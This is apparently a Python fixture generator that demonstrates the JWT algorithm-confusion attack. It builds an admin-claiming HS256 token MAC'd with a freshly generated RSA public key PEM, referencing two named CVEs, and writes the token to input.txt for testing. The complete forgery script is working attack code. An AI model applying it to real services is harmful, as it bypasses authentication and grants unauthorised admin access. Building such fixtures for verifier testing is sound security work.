"""An HS256 token MAC'd with the verifier's RSA public key PEM: the algorithm-confusion forgery.

The attacker fetches the service's public key (it is public), keeps the PEM
file's exact bytes as an HMAC secret, and MACs a token claiming admin rights
with `openssl dgst -mac HMAC`. A verifier that lets the header pick the
algorithm and passes "the key" to HMAC accepts it (CVE-2016-10555 in
node-jsonwebtoken, CVE-2022-29217 in PyJWT). The RSA key is fresh, from
`openssl genpkey`; key.pub.pem is what the verifier holds.
"""

import os
import subprocess
import tempfile
from pathlib import Path

here = Path(__file__).parent
NOW = 1763384400  # 2025-11-17T13:00:00Z

SCRIPT = r"""
set -euo pipefail
b64url() { base64 -w 0 | tr -d '=' | tr '+/' '-_'; }
HEADER=$(printf '{"alg":"HS256","typ":"JWT"}' | b64url)
PAYLOAD=$(printf '{"sub":"1001","role":"admin","iat":%d,"exp":%d}' "$NOW" "$((NOW + 3600))" | b64url)
HEXKEY=$(xxd -p "$PUB_FILE" | tr -d '\n')
SIG=$(printf '%s.%s' "$HEADER" "$PAYLOAD" | openssl dgst -sha256 -mac HMAC -macopt "hexkey:$HEXKEY" -binary | b64url)
printf '%s.%s.%s' "$HEADER" "$PAYLOAD" "$SIG"
"""

with tempfile.TemporaryDirectory() as tmp:
    key = Path(tmp) / "key.pem"
    subprocess.run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", str(key)], check=True)
    subprocess.run(["openssl", "pkey", "-in", str(key), "-pubout", "-out", str(here / "key.pub.pem")], check=True)
    env = {**os.environ, "PUB_FILE": str(here / "key.pub.pem"), "NOW": str(NOW)}
    token = subprocess.run(["bash", "-c", SCRIPT], env=env, check=True, capture_output=True, text=True).stdout
(here / "input.txt").write_text(token)
print(token)
